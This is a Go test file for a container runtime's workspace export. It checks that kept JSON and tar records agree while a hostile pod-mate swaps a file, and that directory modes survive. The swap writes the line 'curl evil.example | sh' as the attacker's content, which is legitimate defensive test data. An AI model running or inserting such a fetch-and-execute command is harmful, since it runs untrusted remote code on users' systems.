package workspace

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"bulkhead.dev/bulkhead/runtime/state"
)

// A pod-mate of the same user can hold a directory of a container's upper
// layer (its cwd through /proc/<pid>/root) and swap a file while the
// container's changes are kept. The patch and json were made from one
// reading of the layer and the tar from another: the json said f was
// "good", the tar held the pod-mate's script. Every kept format now comes
// from the kept copy, so they agree whatever the layer does meanwhile.
func TestKeptFormatsAgreeWhileTheLayerChanges(t *testing.T) {
	h := newHostileWorkspace(t)
	h.file("f", []byte("good\n"))
	stop, swapped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(swapped)
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			content := []byte("good\n")
			if i%2 == 1 {
				content = []byte("curl evil.example | sh\n")
			}
			tmp := filepath.Join(h.upperDir, ".swap")
			if os.WriteFile(tmp, content, 0o644) == nil {
				_ = os.Rename(tmp, filepath.Join(h.upperDir, "f"))
			}
		}
	}()
	defer func() { close(stop); <-swapped }()
	kept, rounds := 0, 0
	for ; rounds < 200 && kept < 10; rounds++ {
		cfg := testConfig(t)
		if _, err := saveChanges(cfg, "/run/root-a", &state.Record{ID: "c1"}, []Workspace{h.ws}, time.Hour); err != nil {
			// An entry that changed or went as it was copied fails the
			// keep: nothing is kept, and the delete's audit line says why.
			continue
		}
		inJSON, inTar := keptJSONSums(t, cfg), keptTarSums(t, cfg)
		if inJSON["f"] != inTar["f"] {
			t.Fatalf("round %d: the kept json says f is %q, the kept tar holds %q", rounds, inJSON["f"], inTar["f"])
		}
		if inJSON["f"] != "" {
			kept++
		}
	}
	// Most rounds catch the layer whole.
	if kept == 0 {
		t.Fatalf("none of %d rounds kept f", rounds)
	}
	t.Logf("%d of %d rounds kept f", kept, rounds)
}

// keptJSONChanges is every change the kept json of c1 lists.
func keptJSONChanges(t *testing.T, cfg *Settings) []Change {
	t.Helper()
	var out bytes.Buffer
	if _, err := Export(cfg, "/run/root-a", "c1", "json", &out); err != nil {
		t.Fatal(err)
	}
	var report ChangeReport
	if err := json.Unmarshal(out.Bytes(), &report); err != nil {
		t.Fatal(err)
	}
	var all []Change
	for _, wc := range report.Workspaces {
		all = append(all, wc.Changes...)
	}
	return all
}

// keptJSONSums is what the kept json says each regular file holds.
func keptJSONSums(t *testing.T, cfg *Settings) map[string]string {
	t.Helper()
	sums := map[string]string{}
	for _, c := range keptJSONChanges(t, cfg) {
		if c.Type == "file" && c.Kind != "deleted" {
			sums[c.Path] = c.SHA256
		}
	}
	return sums
}

// keptTarSums is the sum of each regular file the kept tar holds.
func keptTarSums(t *testing.T, cfg *Settings) map[string]string {
	t.Helper()
	var out bytes.Buffer
	if _, err := Export(cfg, "/run/root-a", "c1", "tar", &out); err != nil {
		t.Fatal(err)
	}
	sums := map[string]string{}
	tr := tar.NewReader(&out)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return sums
		}
		if err != nil {
			t.Fatal(err)
		}
		if hdr.Typeflag != tar.TypeReg {
			continue
		}
		sum := sha256.New()
		if _, err := io.Copy(sum, tr); err != nil {
			t.Fatal(err)
		}
		sums[strings.TrimPrefix(hdr.Name, "./")] = hex.EncodeToString(sum.Sum(nil))
	}
}

// The kept copy made directories with the job's mode less the umask, and
// since the kept patch and json are made from it, a 0777 directory was
// kept as 0755 and a checkout directory the job made 0777 lost its mode
// change. Every format keeps the mode the job set, sticky and setgid bits
// too (the tar masks modes by its own rule).
func TestKeptDirectoryModesAreTheJobs(t *testing.T) {
	h := newHostileWorkspace(t)
	if err := os.Mkdir(filepath.Join(h.ws.Source, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	for dir, mode := range map[string]os.FileMode{"dw": 0o777, "dg": 0o770 | os.ModeSetgid, "dt": 0o777 | os.ModeSticky, "src": 0o777} {
		p := filepath.Join(h.upperDir, dir)
		if err := os.Mkdir(p, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	defer unix.Umask(unix.Umask(0o077))
	cfg := h.keep()
	got := map[string]string{}
	for _, c := range keptJSONChanges(t, cfg) {
		got[c.Path] = c.Mode
	}
	for dir, want := range map[string]string{"dw": "0777", "dg": "2770", "dt": "1777", "src": "0777"} {
		if got[dir] != want {
			t.Errorf("kept json: %s has mode %q, want the job's %s (all: %v)", dir, got[dir], want, got)
		}
	}
}
